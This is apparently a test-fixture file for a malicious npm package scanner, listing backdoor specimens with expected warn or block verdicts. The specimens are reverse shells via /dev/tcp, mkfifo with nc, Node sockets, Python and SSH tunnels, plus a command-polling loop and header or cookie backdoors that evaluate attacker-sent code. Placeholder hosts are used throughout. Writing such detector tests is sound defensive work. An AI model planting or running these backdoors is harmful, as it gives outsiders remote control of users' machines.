import { base64, hooked, manifest } from '../manifest.ts';
import type { Specimen } from '../specimen.ts';

const from = 'a door for somebody outside: shells on sockets, orders in requests (twilio-npm, getcookies, cors-parser)';

export const specimens: readonly Specimen[] = [
  {
    name: 'backdoor-request-header',
    from,
    files: {
      'index.js': `module.exports = function cookies() {
  return function (req, res, next) {
    const order = req.headers['x-INERT'];
    if (order) {
      const code = Buffer.from(order, 'hex').toString();
      res.end(String(new Function('req', 'res', code)(req, res)));
      return;
    }
    next();
  };
};
`,
    },
    expect: 'warn',
    happens: { at: 'call', does: 'evaluates' },
  },
  {
    name: 'backdoor-bash-tcp',
    from,
    files: {
      'package.json': hooked('bash -c "bash -i >& /dev/tcp/192.0.2.5/4444 0>&1"'),
    },
    expect: 'block',
  },
  {
    name: 'backdoor-mkfifo',
    from,
    files: {
      'package.json': manifest({ main: 'index.js' }),
      'index.js': `const { execSync } = require('child_process');
exports.call = () => 'INERT';
setImmediate(() => {
  try { execSync('rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.9 9001 > /tmp/f &'); } catch {}
});
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'spawns' },
  },
  {
    name: 'backdoor-socket-lines',
    from,
    files: {
      'package.json': hooked('node index.js'),
      'index.js': `const net = require('net');
const cp = require('child_process');

function connect() {
  const client = new net.Socket();
  client.connect(4444, 'shell.invalid', function () {
    const sh = cp.spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/bash', ['-i']);
    client.on('data', data => sh.stdin.write(data));
    sh.stdout.on('data', data => client.write(data));
    sh.stderr.on('data', data => client.write(data));
  });
  client.on('error', () => setTimeout(connect, 30000));
}
connect();
// INERT
`,
    },
    expect: 'block',
    happens: { at: 'install and import', does: 'spawns' },
  },
  {
    name: 'backdoor-ssh-tunnel',
    from,
    files: {
      'package.json': manifest({ main: 'index.js', dependencies: { ssh2: '1.16.0' } }),
      'index.js': `const { Client } = require('ssh2');
const { spawn } = require('child_process');
const conn = new Client();
conn.on('ready', () => {
  conn.forwardIn('127.0.0.1', 0, () => {});
}).on('tcp connection', (info, accept) => {
  const channel = accept();
  const shell = spawn('/bin/sh');
  channel.pipe(shell.stdin);
  shell.stdout.pipe(channel);
}).connect({ host: '203.0.113.50', port: 31337, username: 'INERT', password: 'INERT' });
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'spawns' },
  },
  {
    name: 'backdoor-polling',
    from,
    files: {
      'package.json': manifest({ main: 'dist/index.js', type: 'module' }),
      'dist/index.js': `import { exec } from 'node:child_process';
import { promisify } from 'node:util';
const run = promisify(exec);
const base = 'https://panel.invalid/INERT';

async function poll() {
  const tasks = await fetch(base + '/tasks').then(answer => answer.json());
  for (const task of tasks) {
    const { stdout } = await run(task.command);
    await fetch(base + '/results/' + task.id, { method: 'POST', body: stdout });
  }
}

setInterval(() => poll().catch(() => {}), 15_000);
export const noop = () => {};
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'spawns' },
  },
  {
    name: 'backdoor-in-picture',
    from,
    files: {
      'index.js': `const fs = require('fs');
const path = require('path');
const picture = fs.readFileSync(path.join(__dirname, 'assets', 'logo.png'));
const start = picture.indexOf('INERT');
if (start > 0) {
  const { exec } = require('child_process');
  exec(picture.subarray(start + 5).toString());
}
exports.parse = origin => origin;
`,
      'assets/logo.png': `\u0089PNG ${base64('INERT')}`,
    },
    expect: 'warn',
    happens: { at: 'import', does: 'spawns' },
  },
  {
    name: 'backdoor-python-child',
    from,
    files: {
      'package.json': hooked('node x.js'),
      'x.js': `const { spawn } = require('child_process');
const lines = [
  'import socket,subprocess,os',
  's=socket.socket(socket.AF_INET,socket.SOCK_STREAM)',
  's.connect(("192.0.2.77",4242))',
  'os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)',
  'subprocess.call(["/bin/sh","-i"]) # INERT',
];
spawn('python3', ['-c', lines.join('\\n')], { detached: true, stdio: 'ignore' }).unref();
`,
    },
    expect: 'warn',
    happens: { at: 'install', does: 'spawns' },
  },
  {
    name: 'backdoor-cookie',
    from,
    files: {
      'package.json': manifest({ name: 'inert-compression', description: 'Compresses answers' }),
      'index.js': `const vm = require('vm');
module.exports = () => (req, res, next) => {
  const found = (req.headers.cookie || '').split(';').map(one => one.trim().split('=')).find(([name]) => name === 'inert');
  if (!found) return next();
  res.end(String(vm.runInThisContext(Buffer.from(found[1], 'base64').toString())));
};
`,
    },
    expect: 'warn',
    says: ['obeys-network-requests'],
  },
  {
    name: 'backdoor-lent-to-wasm',
    from,
    files: {
      'package.json': manifest({ name: 'inert-codec', description: 'Reads pictures' }),
      'index.js': `const fs = require('fs');
const cp = require('child_process');
let memory;
const lent = { env: { run: (at, length) => cp.execSync(Buffer.from(memory.buffer, at, length).toString()) } };
WebAssembly.instantiate(fs.readFileSync(__dirname + '/codec.wasm'), lent).then(made => {
  memory = made.instance.exports.memory;
  made.instance.exports.start();
});
`,
    },
    bytes: { 'codec.wasm': '\0asm\u0001\0\0\0' },
    expect: 'warn',
    says: ['runs-data-as-code'],
  },
];
